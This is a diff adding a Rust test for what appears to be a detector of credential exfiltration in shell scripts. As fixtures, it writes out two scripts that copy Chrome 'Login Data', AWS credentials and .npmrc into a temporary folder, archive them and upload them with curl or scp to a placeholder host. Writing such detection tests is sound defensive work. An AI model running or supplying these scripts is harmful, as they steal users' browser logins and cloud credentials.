@@ -539,3 +539,22 @@ fn harmless_powershell_is_not_a_flow() {
         assert!(out.is_empty(), "case {i}: {out:?}");
     }
 }
+
+#[test]
+fn credential_files_copied_into_a_folder_that_is_archived_and_uploaded_are_a_flow() {
+    let cases: &[&str] = &[
+        "#!/bin/bash\nbase=\"$HOME/.config/google-chrome/Default\"\ntmp=\"$(mktemp -d)\"\n\
+         cp \"$base/Bookmarks\" \"$base/Login Data\" \"$tmp/\"\ntar -czf \"$tmp/p.tgz\" -C \"$tmp\" .\n\
+         curl -s -F \"file=@$tmp/p.tgz\" https://h.invalid/u\n",
+        "#!/bin/sh\nd=$(mktemp -d)\ncp ~/.aws/credentials ~/.npmrc \"$d\"\nzip -qr /tmp/b.zip \"$d\"\nscp /tmp/b.zip u@h.invalid:/in/\n",
+    ];
+    for (i, sh) in cases.iter().enumerate() {
+        let out = flows(&[("s.sh", sh)]);
+        assert_eq!(out.len(), 1, "case {i}: {out:?}");
+        assert_eq!(out[0].finding.source.as_ref().map(|s| s.line), Some(4 - i), "case {i}");
+    }
+    // Bookmarks alone archived and uploaded: no credential file.
+    let ok = "#!/bin/bash\ntmp=\"$(mktemp -d)\"\ncp \"$HOME/.config/google-chrome/Default/Bookmarks\" \"$tmp/\"\n\
+              tar -czf \"$tmp/p.tgz\" -C \"$tmp\" .\ncurl -s -F \"file=@$tmp/p.tgz\" https://h.invalid/u\n";
+    assert!(flows(&[("s.sh", ok)]).is_empty());
+}
